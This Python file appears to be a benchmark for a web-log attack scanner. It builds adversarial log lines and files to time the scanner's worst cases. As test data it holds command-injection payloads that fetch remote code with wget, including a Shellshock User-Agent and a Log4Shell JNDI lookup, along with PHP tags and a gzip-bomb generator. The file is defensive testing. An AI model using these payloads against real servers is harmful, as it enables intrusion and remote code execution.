"""Worst-case cost of one hostile line (and of a few hostile files), fast and full path.

    .venv/bin/python benchmarks/hostile.py            # a markdown table on stdout
    .venv/bin/python benchmarks/hostile.py --runs 5   # median of 5 runs per cell

Each line is scanned alone with `Scanner.scan_chunk` (the line after it is a normal attack, so
the table also shows it was still found); each file through `Scan`, as the CLI does.
Figures go into docs/safety.md.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import os
import random
import statistics
import sys
import tempfile
import time

from dropscan.detect.decode import MAX_FIELD
from dropscan.detect.scanner import Scanner
from dropscan.engine import Scan, ScanOptions, default_signatures
from dropscan.formats.logformat import apache_escape, compile_format
from dropscan.sources.files import MAX_LINE

COMBINED = compile_format("combined")
ATTACK = b'203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET /x?c=;wget http://203.0.113.9/a HTTP/1.1" 404 1 "-" "-"\n'


def line(target: str = "/", ua: str = "-", referer: str = "-") -> bytes:
    return (
        f'203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET {apache_escape(target)} HTTP/1.1" 404 1 '
        f'"{apache_escape(referer)}" "{apache_escape(ua)}"\n'
    ).encode()


def raw(target: bytes, ua: bytes = b"-") -> bytes:
    """A line from already-escaped bytes (megabyte fields without a Python loop per byte)."""
    return b'203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET ' + target + b' HTTP/1.1" 404 1 "-" "' + ua + b'"\n'


def soup(sigs, size: int = MAX_FIELD - 64) -> str:
    unit = " ".join(f";{k} -x http://a" for k in sorted(sigs.keyword_index)) + " "
    return (unit * (size // len(unit) + 1))[:size]


def b64_bomb(sigs, size: int = MAX_FIELD - 1000, depth: int = 2) -> str:
    """base64 blobs next to a decoder, holding blobs next to a decoder, holding keyword soup."""
    part = size // 9
    if depth == 0:
        return soup(sigs, size)
    blobs = [
        base64.b64encode((b64_bomb(sigs, int(part * 0.74), depth - 1) + f" {i}").encode()).decode() for i in range(8)
    ]
    return "echo base64 -d " + " ".join(blobs) + " " + soup(sigs, part)


def lines(sigs) -> list[tuple[str, bytes]]:
    s, bomb = soup(sigs), b64_bomb(sigs)
    return [
        (
            "5 MB target of letters, attack in the User-Agent",
            raw(b"/" + b"A" * 5_000_000, b"() { :; }; wget http://h/x"),
        ),
        ("5 MB of \\\\ escapes", raw(b"/" + b"\\\\" * 2_500_000)),
        ("5 MB of \\xhh escapes", raw(b"/" + b"\\x41" * 1_250_000)),
        ("5 MB of \\xhh escapes and one \\q (per-escape path)", raw(b"/" + b"\\x41" * 1_250_000 + b"\\q")),
        (f"{MAX_LINE >> 20} MiB line of \\\\ (MAX_LINE)", raw(b"/" + b"\\\\" * (MAX_LINE // 2 - 64))),
        ("5 MB of a' (a prefilter marker every 2 bytes)", raw(b"/" + b"a'" * 2_500_000)),
        ("%25 x 200k side by side", line("/?q=" + "%25" * 200_000 + "3Bwget%20http://h/x")),
        ("%25 nested 200k deep", line("/?q=%" + "25" * 200_000 + "3B")),
        ("${ nested 50k deep (jndi inside)", line("/", ua="${" * 50_000 + "jndi:ldap://h:1389/a" + "}" * 50_000)),
        ("${ x 50k unclosed", line("/" + "${" * 50_000)),
        ("wget + 80k arguments, no remote", line("/?c=;wget " + "-x " * 80_000)),
        (";wget x 40k", line("/?c=" + ";wget " * 40_000)),
        ("wget http:// + 240k-char host", line("/?c=;wget http://" + "a." * 120_000)),
        ("<?php x 40k (lazy .{0,400} from each)", line("/", ua="<?php " * 40_000)),
        ("keyword soup, 3 fields x 256 KiB", line("/?" + s, ua=s, referer=s)),
        ("nested base64 bomb, 3 fields x 256 KiB", line("/?" + bomb, ua=bomb, referer=bomb)),
        ("base64 -d + a/ x 128k", line("/?c=echo " + "a/" * (MAX_FIELD // 2) + "|base64 -d")),
    ]


def files(tmp: str) -> list[tuple[str, str]]:
    rnd = random.Random(7)
    out = []
    p = os.path.join(tmp, "binary.log")
    with open(p, "wb") as fh:
        fh.write(bytes(rnd.randrange(256) for _ in range(1 << 20)))
    out.append(("1 MiB of random bytes (a file that is not a log)", p))
    p = os.path.join(tmp, "bomb.log.gz")
    with open(p, "wb") as fh:
        fh.write(gzip.compress(bytes(256 << 20), 9))
    out.append(("gzip bomb: 256 MiB of NULs, no newline (260 kB on disk)", p))
    p = os.path.join(tmp, "newlines.log")
    with open(p, "wb") as fh:
        fh.write(b"\n" * (4 << 20))
    out.append(("4 MiB of newlines (4.2M empty lines)", p))
    return out


def timed(fn, runs: int) -> tuple[float, object]:
    times, result = [], None
    for _ in range(runs):
        t0 = time.perf_counter()
        result = fn()
        times.append(time.perf_counter() - t0)
    return statistics.median(times), result


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--runs", type=int, default=3)
    args = ap.parse_args()
    sigs = default_signatures()
    fast, full = Scanner(sigs, fast=True), Scanner(sigs, fast=False)
    print(f"python {sys.version.split()[0]}, {os.cpu_count()} CPUs, median of {args.runs} runs\n")
    print("| hostile line | bytes | fast s | full s | unscanned (bounds reached) | next line found |")
    print("|---|---:|---:|---:|---:|---|")
    for name, ln in lines(sigs):
        cells = []
        for sc in (fast, full):
            secs, r = timed(lambda sc=sc, ln=ln: sc.scan_chunk(ln + ATTACK, COMBINED, log_file="x"), args.runs)
            cells.append((secs, r))
        r = cells[1][1]
        found = "yes" if any(f.line_no == 2 for f in r.findings) else "NO"
        fast_s, full_s = cells[0][0], cells[1][0]
        cut = next((f.unscanned for f in r.findings if f.line_no == 1), [])
        print(f"| {name} | {len(ln):,} | {fast_s:.2f} | {full_s:.2f} | {', '.join(cut) or '-'} | {found} |")
    print("\n| hostile file | fast s | full s | lines | rejected |")
    print("|---|---:|---:|---:|---:|")
    with tempfile.TemporaryDirectory() as tmp:
        for name, path in files(tmp):
            row = []
            for is_fast in (True, False):

                def run(path=path, is_fast=is_fast):
                    scan = Scan([path], ScanOptions(jobs=1, fast=is_fast, signatures=sigs))
                    list(scan)
                    return scan.files[0]

                row.append(timed(run, args.runs))
            s = row[1][1]
            print(f"| {name} | {row[0][0]:.2f} | {row[1][0]:.2f} | {s.lines:,} | {s.rejected:,} |")


if __name__ == "__main__":
    main()
